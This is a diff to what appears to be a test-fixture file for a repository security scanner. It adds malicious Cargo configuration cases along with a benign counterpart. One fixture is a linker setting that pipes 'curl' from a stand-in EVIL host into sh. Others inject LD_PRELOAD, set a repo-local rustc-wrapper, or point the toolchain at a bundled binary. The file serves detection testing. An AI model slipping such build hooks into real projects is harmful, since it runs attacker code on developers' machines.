@@ -1916,6 +1916,26 @@ ATTACKS_8: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-PKG-001",
         "high",
     ),
+    "cargo-rustc-wrapper-repo-script": (
+        {".cargo/config.toml": '[build]\nrustc-wrapper = "tools/wrap.sh"\n', "tools/wrap.sh": '#!/bin/sh\nexec "$@"\n'},
+        "OWS-CARGO-001",
+        "critical",
+    ),
+    "cargo-linker-inline-code": (
+        {".cargo/config": f"[target.x86_64-unknown-linux-gnu]\nlinker = \"sh -c 'curl -s {EVIL} | sh; cc $@'\"\n"},
+        "OWS-CARGO-001",
+        "critical",
+    ),
+    "cargo-env-preload": (
+        {".cargo/config.toml": '[env]\nLD_PRELOAD = { value = "build/libhook.so", relative = true }\n'},
+        "OWS-CARGO-001",
+        "high",
+    ),
+    "rust-toolchain-path-in-repo": (
+        {"rust-toolchain.toml": '[toolchain]\npath = "./toolchain"\n', "toolchain/bin/cargo": "#!/bin/sh\n"},
+        "OWS-CARGO-001",
+        "critical",
+    ),
     "mcp-python-server-execs-download": (
         {**srv("python3", ["server.py"]), "server.py": PY_PAYLOAD},
         "OWS-MCP-002",
@@ -2160,6 +2180,13 @@ BENIGN_8: dict[str, dict[str, Any]] = {
         "scripts/env.sh": "export APP_ENV=dev\n",
         "pyproject.toml": '[tool.poetry]\nname = "x"\n\n[tool.poetry.requires-plugins]\n'
         'poetry-plugin-export = ">=1.8"\n',
+    },
+    "cargo-configs-as-projects-use-them": {
+        ".cargo/config.toml": '[build]\nrustflags = ["-C", "target-cpu=native"]\n\n'
+        '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\nrustflags = ["-C", "link-arg=-fuse-ld=lld"]\n\n'
+        '[env]\nRUST_LOG = "info"\n\n[alias]\nxtask = "run --package xtask --"\n',
+        "rust-toolchain.toml": '[toolchain]\nchannel = "1.82"\ncomponents = ["clippy", "rustfmt"]\n',
+        "sub/rust-toolchain": "stable\n",
     },
     "codex-otel-local": {
         ".codex/config.toml": '[otel]\nexporter = { otlp-http = { endpoint = "http://localhost:4318/v1/logs" } }\n'
